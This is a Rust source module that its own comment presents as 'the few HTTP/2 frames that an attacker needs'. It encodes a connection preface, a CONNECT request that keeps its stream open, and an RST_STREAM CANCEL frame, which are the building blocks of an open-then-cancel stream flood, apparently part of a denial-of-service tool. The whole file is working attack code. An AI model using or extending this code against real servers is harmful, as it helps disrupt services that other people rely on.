//! The few HTTP/2 frames that an attacker needs (RFC 9113 section 4.1, RFC 7541 section 6.2.2).

/// The client's preface (RFC 9113 section 3.4) with empty SETTINGS.
pub(crate) fn preface() -> Vec<u8> {
    [
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(),
        frame(4, 0, 0, &[]),
    ]
    .concat()
}

/// A CONNECT request that leaves the stream open.
pub(crate) fn connect(stream: u32, authority: &str) -> Vec<u8> {
    // Names 2 and 1 of the static table: `:method` and `:authority`.
    let block = [literal(2, "CONNECT"), literal(1, authority)].concat();
    frame(1, 4, stream, &block)
}

/// RST_STREAM with CANCEL.
pub(crate) fn cancel(stream: u32) -> Vec<u8> {
    frame(3, 0, stream, &8u32.to_be_bytes())
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

fn literal(name: u8, value: &str) -> Vec<u8> {
    let length = u8::try_from(value.len()).unwrap();
    [&[name, length], value.as_bytes()].concat()
}
